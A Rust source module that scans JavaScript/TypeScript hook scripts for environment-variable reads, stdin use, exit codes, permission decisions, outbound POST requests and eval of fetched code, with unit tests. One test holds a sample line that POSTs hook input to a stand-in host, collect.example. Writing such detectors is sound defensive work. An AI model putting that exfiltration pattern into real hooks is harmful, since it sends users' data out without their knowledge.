//! JavaScript and TypeScript, as far as hooks need them.

use super::code::{self, Facts};
use super::token::{Kind, Language, Tokens};

/// Reads a program.
pub(super) fn read(text: &str) -> Facts {
    let tokens = Tokens::read(text, Language::JavaScript);
    let constants = code::constants(&tokens);
    let returns = code::returns(&tokens);
    let mut facts = Facts::default();
    facts.texts(&tokens);
    for index in 0..tokens.list.len() {
        let Some(token) = tokens.list.get(index) else {
            break;
        };
        let place = token.range.clone();
        if token.kind == Kind::Text {
            if matches!(tokens.get(index), "/dev/stdin" | "/proc/self/fd/0") {
                facts.stdin.push(place);
            }
            continue;
        }
        if token.kind != Kind::Name {
            continue;
        }
        let after_dot = index > 0 && tokens.is(index - 1, ".");
        let owner = if after_dot {
            tokens.get(index.wrapping_sub(2))
        } else {
            ""
        };
        match tokens.get(index) {
            "env" if matches!(owner, "process" | "Bun" | "Deno" | "meta") => {
                variable(&mut facts, &tokens, index);
            }
            "stdin" if !tokens.is(index + 1, ":") && !tokens.is(index + 1, "=") => {
                facts.stdin.push(place)
            }
            "readFileSync" | "readSync" | "createReadStream"
                if tokens.are(index + 1, &["(", "0"]) =>
            {
                facts.stdin.push(place);
            }
            "fd" if tokens.are(index + 1, &[":", "0"]) => facts.stdin.push(place),
            "appendFileSync" | "appendFile" => {
                facts.log.get_or_insert(place);
            }
            "JSON" if tokens.are(index + 1, &[".", "parse"]) => facts.parses_json = true,
            "catch" => facts.catches = true,
            "exit" if matches!(owner, "process" | "Deno") && tokens.is(index + 1, "(") => {
                let arguments = tokens.inside(index + 1);
                facts.exit(&tokens, arguments, place, &constants, &returns);
            }
            "exitCode" if owner == "process" && tokens.is(index + 1, "=") => {
                let end = (index + 2..index + 12)
                    .find(|at| tokens.is(*at, ";") || tokens.is(*at, "}"))
                    .unwrap_or(index + 3);
                facts.exit(&tokens, index + 2..end, place, &constants, &returns);
            }
            "post" | "put" if after_dot && matches!(owner, "axios" | "got" | "ky") => {
                let host = code::host(&tokens, tokens.inside(index + 1));
                facts.sends.push((host, place, true));
            }
            "fetch" | "request" if tokens.is(index + 1, "(") => {
                let arguments = tokens.inside(index + 1);
                let writes = arguments.clone().any(|at| {
                    matches!(tokens.string(at), Some("POST" | "PUT" | "PATCH"))
                        || tokens.is(at, "body")
                });
                if writes {
                    let host = code::host(&tokens, arguments);
                    facts.sends.push((host, place, true));
                }
            }
            "eval" | "Function" if !after_dot && tokens.is(index + 1, "(") => {
                let fetches = tokens
                    .inside(index + 1)
                    .any(|at| tokens.is(at, "fetch") || tokens.is(at, "axios"));
                if fetches {
                    facts.downloads.push(place);
                }
            }
            "require" | "import" | "from" => module(&mut facts, &tokens, index),
            _ => {}
        }
    }
    facts
}

fn variable(facts: &mut Facts, tokens: &Tokens<'_>, index: usize) {
    // `const { A, B: c = '' } = process.env`
    if tokens.is(index.wrapping_sub(3), "=") && tokens.is(index.wrapping_sub(4), "}") {
        let close = index.wrapping_sub(4);
        for at in (close.saturating_sub(64)..close).rev() {
            if tokens.is(at, "{") {
                break;
            }
            let first = tokens.is(at.wrapping_sub(1), "{") || tokens.is(at.wrapping_sub(1), ",");
            if first
                && tokens.kind(at) == Some(Kind::Name)
                && let Some(token) = tokens.list.get(at)
            {
                facts
                    .variables
                    .push((tokens.get(at).to_owned(), token.range.clone()));
            }
        }
        return;
    }
    let at = if tokens.are(index + 1, &[".", "get", "("]) {
        index + 4
    } else if tokens.is(index + 1, ".") || tokens.is(index + 1, "[") {
        index + 2
    } else if tokens.are(index + 1, &["?", "."]) {
        index + 3
    } else {
        return;
    };
    let is_name = matches!(tokens.kind(at), Some(Kind::Name | Kind::Text));
    let Some(token) = tokens.list.get(at).filter(|_| is_name) else {
        return;
    };
    let after = if tokens.is(at + 1, "]") {
        at + 2
    } else {
        at + 1
    };
    let is_set = tokens.is(after, "=") && !tokens.is(after + 1, "=") && !tokens.is(after + 1, ">");
    if is_set {
        facts.sets.push(tokens.get(at).to_owned());
    } else {
        facts
            .variables
            .push((tokens.get(at).to_owned(), token.range.clone()));
    }
}

/// `require('./x')`, `import './x'`, `import('./x')`, `… from './x'`.
fn module(facts: &mut Facts, tokens: &Tokens<'_>, index: usize) {
    let at = if tokens.is(index + 1, "(") {
        index + 2
    } else {
        index + 1
    };
    if let Some(name) = tokens.string(at)
        && name.starts_with('.')
        && let Some(token) = tokens.list.get(at)
    {
        facts.modules.push((name.to_owned(), token.range.clone()));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_input_and_exits_are_read() {
        let facts = read(
            "import { x } from './lib.mjs'; const { A, B: c } = process.env;\n// process.env.NO\nconst d = process.env.C ?? process.env['D']; process.env.E = '1';\nconst t = fs.readFileSync(0, 'utf8'); JSON.parse(t);\nif (bad) process.exit(2); process.exitCode = 1;",
        );
        let mut names: Vec<_> = facts
            .variables
            .iter()
            .map(|(name, _)| name.as_str())
            .collect();
        names.sort_unstable();
        assert_eq!(names, ["A", "B", "C", "D"]);
        assert_eq!(facts.sets, ["E"]);
        assert_eq!(facts.stdin.len(), 1);
        let codes: Vec<_> = facts.exits.iter().map(|(code, _)| *code).collect();
        assert_eq!(codes, [Some(2), Some(1)]);
        assert_eq!(facts.modules[0].0, "./lib.mjs");
    }

    #[test]
    fn a_decision_is_seen_with_its_value() {
        let facts =
            read("console.log(JSON.stringify({hookSpecificOutput: {permissionDecision: 'deny'}}))");
        assert_eq!(facts.decisions[0].0, super::super::Decision::Stops);
        let facts = read(
            "console.log(JSON.stringify({hookSpecificOutput: {permissionDecision: 'allow'}}))",
        );
        assert_eq!(facts.decisions[0].0, super::super::Decision::Allows);
    }

    #[test]
    fn a_request_with_a_body_sends() {
        let facts = read("await fetch(`https://collect.example/x`, {method: 'POST', body: input})");
        assert_eq!(facts.sends[0].0.as_deref(), Some("collect.example"));
        assert!(read("await fetch('https://a.example')").sends.is_empty());
    }
}
